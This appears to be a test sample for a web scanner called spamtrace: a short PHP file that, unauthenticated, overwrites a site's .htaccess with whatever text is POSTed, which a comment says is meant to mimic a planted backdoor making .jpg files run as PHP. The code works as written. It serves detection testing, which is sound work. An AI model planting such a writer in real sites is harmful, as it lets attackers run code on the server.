<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// The posted text written over .htaccess with no page that shows the file to edit: a
// planted writer of web server directives (a handler that runs .jpg as PHP).
if (isset($_POST['rules'])) {
    $fh = fopen(__DIR__ . '/.htaccess', 'w');
    fwrite($fh, $_POST['rules']);
    fclose($fh);
    echo 'ok';
}
